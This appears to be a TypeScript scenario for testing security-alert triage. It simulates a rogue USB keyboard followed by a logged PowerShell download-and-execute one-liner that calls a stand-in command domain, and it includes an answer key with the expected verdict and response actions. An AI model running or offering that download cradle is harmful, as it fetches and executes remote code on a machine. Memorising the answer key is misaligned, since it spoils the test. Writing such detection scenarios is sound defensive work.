// A new keyboard, and eleven seconds later a script block that fetches from a command domain.
import { alert, connected, situation } from '../../shorthand.ts'

export const keyboardThatTypesAlone = situation(
  'keyboard-that-types-alone',
  'chains',
  'A new keyboard, then a script that nobody typed',
  (setting) => {
    const hugo = setting.person('hugo.ahlgren')
    const laptop = setting.laptopOf('hugo.ahlgren')
    const collector = setting.machine('srv-jump-01')
    const at = setting.ago({ minutes: 33 })
    const host = 'img.sync-officedocs.com'
    return {
      alerts: [
        alert(
          setting,
          at - 11_000,
          'device_control_plus',
          'New human interface device connected',
          `Device Name : USB Input Device (HID Keyboard)\nDevice Instance ID : USB\\VID_1B4F&PID_9208\\6&2A0B9F1&0&3\nEvent : Device Plugged In\nAccess : Allowed (device type not restricted)\nComputer Name : ${laptop.host.toUpperCase()}\nDomain Name : HAVSKOG\nUser Name : ${hugo.account}\nTime : ${setting.iso(at - 11_000)}`,
        ),
        alert(
          setting,
          at,
          'windows_event_forwarding',
          'PowerShell script block with download and execution',
          `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-PowerShell"/><EventID>4104</EventID><Level>3</Level><TimeCreated SystemTime="${setting.iso(at)}"/><EventRecordID>220914</EventRecordID><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>${laptop.dnsName}</Computer><Security UserID="${hugo.sid}"/></System><EventData><Data Name="MessageNumber">1</Data><Data Name="MessageTotal">1</Data><Data Name="ScriptBlockText">$w=New-Object Net.WebClient;IEX $w.DownloadString('https://${host}/k.txt')</Data><Data Name="ScriptBlockId">5ac8c8a0-53fb-4d0a-9a43-5a7d0b1f40d7</Data></EventData><RenderingInfo Culture="en-US"><Collector>${collector.dnsName}</Collector></RenderingInfo></Event>`,
        ),
      ],
      facts: {
        telemetry: [
          connected(laptop, at + 900, '45.138.16.203', {
            RemoteUrl: host,
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessCommandLine: 'powershell.exe -w hidden -nop',
            InitiatingProcessAccountName: hugo.account,
          }),
        ],
      },
      expected: {
        verdict: 'malicious',
        severities: ['high', 'critical'],
        proposals: [{ action: 'isolate-machine', target: laptop.host }],
        forbidden: [{ action: 'isolate-machine', target: collector.host }],
      },
      because:
        'The script fetched and ran something from a host under a domain that serves a backdoor today, and the endpoint platform saw the connection to a command server leave this laptop. The collector only passed the event on.',
    }
  },
)
